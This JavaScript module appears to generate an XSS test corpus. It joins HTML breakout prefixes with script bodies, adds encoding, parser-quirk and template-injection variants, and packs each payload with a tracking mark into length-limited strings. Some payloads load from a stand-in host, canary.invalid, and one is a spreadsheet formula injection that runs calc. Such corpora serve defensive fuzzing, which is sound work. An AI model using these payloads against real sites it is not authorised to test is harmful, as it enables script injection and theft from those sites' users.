// What has run somewhere, short enough for every field. `alert(1)` is what they try; whatever they load is at canary.invalid.

const breakouts = ["", "\"", "'", "\">", "'>", "`", "</title>", "</textarea>", "</style>", "</script>", "-->", "]]>", "</td>", "</option>", "{{", "${", "\">\u2028"];
const bodies = [
  "<script>alert(1)</script>",
  "<svg/onload=alert(1)>",
  "<img src=x onerror=alert(1)>",
  " autofocus onfocus=alert(1) x=",
  "<body onload=alert(1)>",
  "<input autofocus onfocus=alert(1)>",
  "<details open ontoggle=alert(1)>",
  "<style onload=alert(1)>",
  "<b onclick=alert(1)>x",
  "<img/src/onerror=alert(1)>",
  "<iframe src=javascript:alert(1)>",
  "<a href=javascript:alert(1)>x</a>",
];
const others = [
  "<ScRiPt>alert(1)</sCrIpT>", "<<script>alert(1)//<</script>", "<script/src=//canary.invalid>", "<script src=data:,alert(1)></script>",
  "<img/src=//canary.invalid/i>", "<img src=`x` onerror=alert(1)>", "<image href=x onerror=alert(1)>", "<img srcset=//canary.invalid/s>",
  "<video src=x onerror=alert(1)>", "<video poster=//canary.invalid/p>", "<audio src=x onerror=alert(1)>", "<source onerror=alert(1)>",
  "<link rel=stylesheet href=//canary.invalid/c>", "<link rel=preload as=script href=//canary.invalid/l>", "<style>@import'//canary.invalid/a'</style>",
  "<style>*{background:url(//canary.invalid)}</style>", "<base href=//canary.invalid/>", "<meta http-equiv=refresh content=0;//canary.invalid>",
  "<iframe srcdoc='<script>alert(1)</script>'>", "<iframe src=data:text/html,<script>alert(1)</script>", "<object data=javascript:alert(1)>",
  "<object data=//canary.invalid/o>", "<embed src=javascript:alert(1)>", "<embed src=//canary.invalid/e>", "<form action=javascript:alert(1)><button>",
  "<button formaction=javascript:alert(1)>x", "<isindex action=javascript:alert(1)>", "<svg><script>alert(1)</script></svg>",
  "<svg><animate onbegin=alert(1)>", "<svg><a href=javascript:alert(1)>x", "<svg><use href=data:,x>", "<math><a href=javascript:alert(1)>x",
  "<math><mtext><style><img src=x onerror=alert(1)>", "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
  "<template><script>alert(1)</script></template>", "<marquee onstart=alert(1)>x</marquee>", "<dialog open onclose=alert(1)>",
  "<p onpointerenter=alert(1)>x</p>", "<p onanimationstart=alert(1)>x</p>", "<xss autofocus tabindex=1 onfocus=alert(1)>",
  "<a href='java&#9;script:alert(1)'>x</a>", "<a href='&#106;avascript:alert(1)'>x</a>", "<a href=vbscript:alert(1)>x</a>",
  "<a href=data:text/html,alert(1)>x</a>", "[x](javascript:alert(1))", "![x](//canary.invalid/m)", "javascript:alert(1)", "jAvAsCrIpT:alert(1)//",
  "{{constructor.constructor('alert(1)')()}}", "{{7*7}}", "${alert(1)}", "<%= alert(1) %>", "#{alert(1)}", "&lt;script&gt;alert(1)&lt;/script&gt;",
  "&#60;script&#62;alert(1)&#60;/script&#62;", "%3Cscript%3Ealert(1)%3C/script%3E", "\\u003cscript\\u003ealert(1)", "\u{ff1c}script\u{ff1e}alert(1)",
  "<plaintext>", "<!--", "<xmp>", "<listing>", "<textarea>", "<title>", "<select>", "<frameset onload=alert(1)>", "<\u0131mg src=x onerror=alert(1)>",
  "<script>alert(1)", "<img src=x onerror=alert(1)", "\u202e<script>alert(1)</script>", "=cmd|'/c calc'!A1", "<slot name=x onslotchange=alert(1)>",
];

export const payloads = [...breakouts.flatMap((first) => bodies.map((body) => first + body)), ...others];

/** All of them in texts of at most `most` characters, each payload behind a mark by which it is found again. */
export function texts(letter, most, length = (text) => text.length) {
  const marked = payloads.map((payload, n) => `${letter}${String(n).padStart(3, "0")}${payload}`).filter((text) => length(text) <= most);
  const texts = [];
  for (const one of marked) {
    const last = texts.at(-1);
    if (last !== undefined && length(`${last} ${one}`) <= most) texts[texts.length - 1] = `${last} ${one}`;
    else texts.push(one);
  }
  return { letter, marked, texts };
}
